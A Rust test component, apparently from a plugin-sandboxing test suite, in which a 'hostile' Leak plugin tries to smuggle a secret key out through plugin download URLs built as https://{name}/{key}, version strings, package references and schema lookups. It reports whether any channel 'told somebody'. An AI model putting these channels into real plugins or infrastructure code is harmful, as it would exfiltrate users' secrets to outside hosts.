//! Tells its engine a secret of its request beside any inputs: in where a plugin is to be had, and what it is called, in which package
//! it should describe, in what replaces a child and in what of it is ignored. Engines fetch what they don't have, and record the rest.

use hostile::exports::components::{ConstructRequest, Constructed};
use hostile::exports::functions::InvokeRequest;
use hostile::options::ResourceOptions;
use hostile::types::Error;
use hostile::{Attack, Tree, attack, component, engine, field, names, no_options, object, packages, resource, text};

struct Leak;

fn inputs() -> Tree {
    object(&["what"], vec![text("x")])
}

fn registration(token: &str, name: &str, options: ResourceOptions) -> engine::Registration {
    engine::Registration { options, ..resource(token, name, inputs()) }
}

impl Attack for Leak {
    fn construct(&self, request: ConstructRequest) -> Result<Constructed, Error> {
        let key = field(&request.inputs, "key").unwrap_or_default();
        let own = component(&request.token, &request.name, inputs());
        let urn = engine::register(&own)?.wait()?.urn;
        for name in names(&key) {
            let options =
                ResourceOptions { plugin_download_url: Some(format!("https://{name}/{key}")), ..no_options() };
            let other = || registration("other:index:Thing", "fetched", options.clone());
            let _ = engine::register(&other()).and_then(|fetched| fetched.wait());
            let _ = engine::read(&other(), "1").and_then(|fetched| fetched.wait());
            let _ = engine::invoke("other:index:tell", &object(&[], Vec::new()), &options).and_then(|told| told.wait());
            let options = ResourceOptions { version: Some(format!("1.0.0-{key}")), ..no_options() };
            let _ = engine::register(&registration("other:index:Thing", "fetched", options))
                .and_then(|fetched| fetched.wait());
            let called = format!("{name}:index:Thing");
            let _ = engine::register(&registration(&called, "called", no_options())).and_then(|called| called.wait());
            let _ = engine::read(&registration(&called, "called", no_options()), "1").and_then(|called| called.wait());
            let _ = engine::invoke(&called, &object(&[], Vec::new()), &no_options()).and_then(|told| told.wait());
            let version = object(&["version"], vec![text(&format!("1.0.0-{name}"))]);
            let _ =
                engine::register(&resource("pulumi:providers:other", "versioned", version)).and_then(|one| one.wait());
        }
        let paths = || vec![key.clone()];
        let options = ResourceOptions {
            ignore_changes: paths(),
            replace_on_changes: paths(),
            additional_secret_outputs: paths(),
            hide_diffs: paths(),
            replacement_trigger: Some(object(&["key"], vec![text(&key)])),
            ..no_options()
        };
        engine::register(&registration("hostile:index:Thing", "child", options))?.wait()?;
        Ok(Constructed { urn, state: object(&["text"], vec![text("constructed")]), state_dependencies: Vec::new() })
    }

    fn invoke(&self, request: InvokeRequest) -> Result<Tree, Error> {
        let key = field(&request.arguments, "key").unwrap_or_default();
        for name in names(&key).into_iter().chain([key]) {
            let reference = || packages::PackageReference { name: name.clone(), version: None };
            let versioned = packages::PackageReference { name: "other".to_owned(), version: Some(name.clone()) };
            let source =
                packages::PackageSpec { source: format!("https://{name}"), version: None, parameters: Vec::new() };
            let given =
                packages::PackageSpec { source: "other".to_owned(), version: None, parameters: vec![name.clone()] };
            let made = |name: &str, value: &str| packages::PackageParameter {
                name: name.to_owned(),
                version: "1.0.0".to_owned(),
                value: value.as_bytes().to_vec(),
            };
            let other = packages::PackageReference { name: "other".to_owned(), version: None };
            let outcomes = [
                packages::get_parameterized_schema(&reference(), &made("made", "")).is_ok(),
                packages::get_parameterized_schema(&other, &made(&name, "")).is_ok(),
                packages::get_parameterized_schema(&other, &made("made", &name)).is_ok(),
                packages::get_schema(&reference()).is_ok(),
                packages::get_schema(&versioned).is_ok(),
                packages::get_mapping(&name, None).is_ok(),
                packages::get_mapping("other", Some(&reference())).is_ok(),
                packages::resolve(&source).is_ok(),
                packages::resolve(&given).is_ok(),
            ];
            if outcomes.contains(&true) {
                return Err(Error::Failed("somebody was told".to_owned()));
            }
        }
        Ok(object(&["text"], vec![text("nobody was told")]))
    }
}

attack!(Leak);
